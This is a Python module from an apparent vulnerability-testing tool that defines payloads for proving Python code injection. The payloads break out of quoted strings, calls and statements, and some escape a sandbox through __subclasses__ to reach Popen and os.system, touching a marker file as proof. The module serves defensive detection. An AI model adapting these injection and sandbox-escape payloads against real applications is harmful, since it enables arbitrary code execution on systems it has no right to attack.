"""Python code: whoever can run some can leave a file behind; what runs a template runs its expressions."""

from __future__ import annotations

from buckler.finding.evidence import ProofKind
from buckler.prove.model import Oracle, Probe, always, filled, texts
from buckler.prove.watches import MARKER
from buckler.weaknesses.injection.templates import TEMPLATE

MAKE = "__import__('pathlib').Path('{marker}').touch()"
ATTACKS = filled(
    (MAKE, "an expression"),
    (f"'+str({MAKE})+'", "leaves a text in single quotes"),
    (f'"+str({MAKE.replace(chr(39), chr(34))})+"', "leaves a text in double quotes"),
    (f"1)\n{MAKE}\n(1", "leaves a call"),
    (f"0\n{MAKE}", "a second statement"),
    (f"0;{MAKE}", "a second statement on the same line"),
    (f"') or {MAKE} or ('", "leaves a quoted argument"),
    (
        "[x for x in ().__class__.__base__.__subclasses__() if x.__name__=='Popen'][0](['touch','{marker}']).wait()",
        "without any global name",
    ),
    (
        (
            "[x for x in ().__class__.__base__.__subclasses__() if x.__name__=='_wrap_close'][0]"
            ".__init__.__globals__['system']('touch {marker}')"
        ),
        "by the globals of a class of the library",
    ),
    (f"{{{{{MAKE}}}}}", "in braces of a formatted text"),
    (f"__class__, {MAKE}, x", "completes an attribute and goes on"),
)
CODE = Oracle(
    ProofKind.EXPLOIT,
    "Python code of the attacker's choice was run",
    Probe(MARKER),
    ATTACKS,
    texts(("7", "a number"), ("report", "a word")),
    domain="[1-9][0-9]{0,4}",
)
PROOF = always(CODE, TEMPLATE)
